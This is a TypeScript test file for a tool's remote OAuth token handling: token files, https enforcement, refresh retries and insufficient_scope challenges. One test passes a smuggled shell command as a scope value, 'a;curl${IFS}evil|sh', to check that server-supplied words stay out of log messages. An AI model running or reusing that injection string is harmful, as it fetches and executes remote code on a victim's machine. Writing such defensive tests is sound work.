import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { memoryStore, SOME_SIGN_IN } from '@skep/auth/sign-in/memory-store.fixture.ts';
import type { KeptSignIn } from '@skep/auth/sign-in/port.ts';
import { listen } from '@skep/core/fetch/listen.ts';
import { silentLog } from '@skep/core/log/log.ts';
import { manualClock } from '@skep/core/time/doubles/manual-clock.ts';
import { expect, onTestFinished, test } from 'vitest';
import { decodeRunConfig } from '../run-config/run-config.ts';
import { signInOfWorkload } from '../secrets/sign-in-store.ts';
import { openRemoteToken } from './remote-token.ts';

const KEY = signInOfWorkload('a1');
const WANTS_B = 'Bearer error="insufficient_scope", scope="b"';
const KEPT: KeptSignIn = {
  ...SOME_SIGN_IN,
  accessToken: 'access-1',
  obtainedAt: 0,
  expiresAt: 3_600_000,
};

function opened(
  auth: object,
  {
    url = KEPT.resource,
    kept = new Map<string, KeptSignIn>([[KEY, KEPT]]),
    log = silentLog,
    settings = {},
  } = {},
) {
  const clock = manualClock(60_000);
  const store = memoryStore(kept);
  const config = decodeRunConfig(
    {
      name: 'a1',
      image: url,
      remote_url: url,
      transport: 'streamable-http',
      remote_auth_config: auth,
      ...settings,
    },
    'f',
  );
  const deps = {
    signIns: async () => store,
    secretOf: async () => undefined,
    clock,
    log,
    random: () => 500,
  };
  return { clock, store, token: openRemoteToken(config, deps) };
}

test('a token in a file is read again when the server refuses it', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'skep-token-'));
  onTestFinished(() => rm(folder, { recursive: true }));
  const file = join(folder, 'token');
  await writeFile(file, 'one\n');
  const token = await opened({ bearer_token_file: file }).token;
  expect(await token.token()).toBe('one');
  expect(await token.refused('one')).toBeUndefined();
  await writeFile(file, 'two\n');
  expect(await token.refused('one')).toBe('two');
  expect(await token.token()).toBe('two');
  await writeFile(file, 'a b\n');
  expect(await token.refused('two')).toBeUndefined();
});

test('a file that holds no token is named at the start', async () => {
  await expect(opened({ bearer_token_file: '/nowhere/token' }).token).rejects.toMatchObject({
    code: 'file/not-found',
  });
});

test('nobody is signed in to a server that could be overheard, whatever is kept', async () => {
  const url = 'http://example.invalid/mcp';
  const kept = new Map([[KEY, { ...KEPT, resource: url }]]);
  await expect(opened({}, { url, kept }).token).rejects.toMatchObject({
    code: 'usage/invalid-value',
    message: 'the sign-in of "a1" needs https: example.invalid could be overheard',
  });
  const here = await opened({}, { url: 'http://127.0.0.1:9/mcp' }).token;
  await here.close();
});

test('the token of a sign-in is shown to the server that it is for', async () => {
  const token = await opened({}).token;
  expect(await token.token()).toBe('access-1');
  await token.close();
});

test('a sign-in to another origin is left alone, and nobody is signed in', async () => {
  const { store, token: opening } = opened({}, { url: 'https://other.invalid/mcp' });
  const token = await opening;
  await expect(token.token()).rejects.toMatchObject({ code: 'auth/not-signed-in' });
  expect(token.state()).toBe('unauthenticated');
  expect(token.advice).toBe('skep auth login a1');
  expect(store.kept.get(KEY)).toBe(KEPT);
  await token.close();
});

test('a refresh that is under way when its workload ends is kept', async () => {
  const answer = Promise.withResolvers<void>();
  let asked = 0;
  const server = createServer((_request, response) => {
    asked += 1;
    const body = { access_token: 'access-2', refresh_token: 'refresh-2', token_type: 'Bearer' };
    response.setHeader('content-type', 'application/json');
    void answer.promise.then(() => response.end(JSON.stringify(body)));
  });
  onTestFinished(() => void server.close());
  const tokenEndpoint = `http://127.0.0.1:${await listen(server, '127.0.0.1', 0)}/token`;
  const ended = { ...KEPT, tokenEndpoint, mayBePrivate: true, expiresAt: 1, refreshToken: 'refresh-1' };
  const { store, token: opening } = opened({}, { kept: new Map([[KEY, ended]]) });
  const token = await opening;
  const shown = token.token();
  await expect.poll(() => asked).toBe(1);
  const closed = token.close();
  answer.resolve();
  await closed;
  expect(await shown).toBe('access-2');
  expect(store.kept.get(KEY)).toMatchObject({ refreshToken: 'refresh-2' });
});

/** What a token endpoint is asked, which gives a token each time. */
async function tokenEndpoint() {
  const asked: URLSearchParams[] = [];
  const answer = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    asked.push(new URLSearchParams(await text(request)));
    response.setHeader('content-type', 'application/json');
    response.end(JSON.stringify({ access_token: `access-${asked.length + 1}`, token_type: 'Bearer' }));
  };
  const server = createServer((request, response) => void answer(request, response));
  onTestFinished(() => void server.close());
  return { asked, url: `http://127.0.0.1:${await listen(server, '127.0.0.1', 0)}/token` };
}

test('a service asks for its next token with the parameters of the first', async () => {
  const { asked, url } = await tokenEndpoint();
  const client = { id: 'ci', secret: 's', authMethod: 'client_secret_post' } as const;
  const ended = { ...KEPT, way: 'client-credentials', client, tokenEndpoint: url, mayBePrivate: true, expiresAt: 1 } as const; // prettier-ignore
  const auth = { oauth_params: { audience: 'api' }, scope_param_name: 'user_scope' };
  const token = await opened(auth, { kept: new Map([[KEY, ended]]) }).token;
  expect(await token.token()).toBe('access-2');
  expect(Object.fromEntries(asked[0] ?? [])).toMatchObject({ audience: 'api', user_scope: 'a' });
  await token.close();
});

test('a refresh that fails is tried again as the settings of the workload say', async () => {
  let asked = 0;
  const server = createServer((_request, response) => {
    asked += 1;
    response.writeHead(503).end();
  });
  onTestFinished(() => void server.close());
  const tokenEndpoint = `http://127.0.0.1:${await listen(server, '127.0.0.1', 0)}/token`;
  const ended = { ...KEPT, tokenEndpoint, mayBePrivate: true, expiresAt: 1, refreshToken: 'refresh-1' };
  const settings = {
    token_refresh_initial_retry_interval: '3s',
    token_refresh_max_retry_interval: '4s',
    token_refresh_max_tries: 4,
    token_auth_retrying_tick_interval: '7s',
    token_auth_retrying_max_elapsed: '30s',
  };
  const { clock, token: opening } = opened({}, { kept: new Map([[KEY, ended]]), settings });
  const token = await opening;
  onTestFinished(() => token.close());
  await expect(token.token()).rejects.toMatchObject({ code: 'auth/unavailable' });
  const waits: number[] = [];
  while (token.state() !== 'unauthenticated' && waits.length < 20) {
    const wait = clock.nextIn ?? 0;
    const before = asked;
    waits.push(wait);
    clock.pass(wait);
    await expect
      .poll(() => asked > before && (clock.waiting > 0 || token.state() === 'unauthenticated'))
      .toBe(true);
  }
  // After the fourth try, and for half a minute since the first, it is asked less often.
  expect(waits).toEqual([3_000, 4_000, 4_000, 7_000, 7_000, 7_000]);
});

test('403 refreshes nothing, and asks for more scopes only where the server wants them', async () => {
  const { asked, url } = await tokenEndpoint();
  const kept = { ...KEPT, tokenEndpoint: url, mayBePrivate: true, refreshToken: 'refresh-1' };
  const { store, token: opening } = opened({}, { kept: new Map([[KEY, kept]]) });
  const token = await opening;
  const shown = await token.token();
  for (const challenge of ['Bearer realm="x"', 'Bearer error="invalid_token"', ',;"'])
    expect(await token.lacking(shown, challenge)).toBeUndefined();
  expect(await token.lacking(shown, WANTS_B)).toBeUndefined();
  expect(store.kept.get(KEY)?.wanted).toEqual(['b']);
  expect(asked).toEqual([]);
  await token.close();
});

test('a login for what the server wants more is shown at once, and no other is advised', async () => {
  const told: string[] = [];
  const log = { ...silentLog, warn: (_fields: object, message: string) => void told.push(message) };
  const { store, token: opening } = opened({}, { log });
  const token = await opening;
  onTestFinished(() => token.close());
  const shown = await token.token();
  await store.change(KEY, async () => ({ ...KEPT, accessToken: 'access-2', scopes: ['a', 'b'] }));
  expect(await token.lacking(shown, WANTS_B)).toBe('access-2');
  expect(await token.token()).toBe('access-2');
  expect(told).toEqual([]);
});

test('a store that fails while a server wants more is no unhandled failure', async () => {
  const lines: string[] = [];
  const log = { ...silentLog, warn: (_fields: object, message: string) => void lines.push(message) };
  const { store, token: opening } = opened({}, { log });
  const token = await opening;
  const shown = await token.token();
  Object.assign(store, { change: () => Promise.reject(new TypeError('no such table')) });
  expect(await token.lacking(shown, WANTS_B)).toBeUndefined();
  expect(lines).toContain('what the server wants more could not be kept');
  await token.close();
});

test('nobody looks for sign-ins once the workload has ended', async () => {
  const { clock, store, token: opening } = opened({}, { kept: new Map() });
  const token = await opening;
  await expect(token.token()).rejects.toMatchObject({ code: 'auth/not-signed-in' });
  const read = Promise.withResolvers<undefined>();
  let reads = 0;
  const reading = () => {
    reads += 1;
    return read.promise;
  };
  Object.assign(store, { read: reading });
  clock.pass(10_000);
  expect(reads).toBe(1);
  await token.close();
  read.resolve(undefined);
  await new Promise((resolve) => setImmediate(resolve));
  expect(clock.waiting).toBe(0);
});

test('a sign-in is for one server of a host, unless its token is for the whole of it', async () => {
  const beside = { url: 'https://mcp.invalid/other/mcp' };
  const token = await opened({}, beside).token;
  onTestFinished(() => token.close());
  await expect(token.token()).rejects.toMatchObject({ code: 'auth/not-signed-in' });
  const whole = new Map([[KEY, { ...KEPT, resourceIndicator: 'https://mcp.invalid' }]]);
  const open = await opened({}, { ...beside, kept: whole }).token;
  onTestFinished(() => open.close());
  expect(await open.token()).toBe('access-1');
});

test('what a server lacks is told once an hour, in none of its words', async () => {
  const told: string[] = [];
  const log = { ...silentLog, warn: (_fields: object, message: string) => void told.push(message) };
  const { clock, token: opening } = opened({}, { log });
  const token = await opening;
  onTestFinished(() => token.close());
  const lack = (scope: string) =>
    token.lacking('access-1', `Bearer error="insufficient_scope", scope="${scope}"`);
  await lack('a;curl${IFS}evil|sh');
  await lack('b');
  expect(told).toEqual(['the server wants more than the token allows: skep auth login a1 asks for it']);
  clock.pass(3_600_000);
  await lack('c');
  expect(told).toHaveLength(2);
});

test('a login is noticed though nobody calls', async () => {
  const { clock, store, token: opening } = opened({}, { kept: new Map() });
  const token = await opening;
  const states: string[] = [];
  token.follow((state) => states.push(state));
  await expect(token.token()).rejects.toMatchObject({ code: 'auth/not-signed-in' });
  await store.change(KEY, async () => KEPT);
  clock.pass(10_000);
  await expect.poll(() => states.at(-1)).toBe('running');
  await token.close();
});
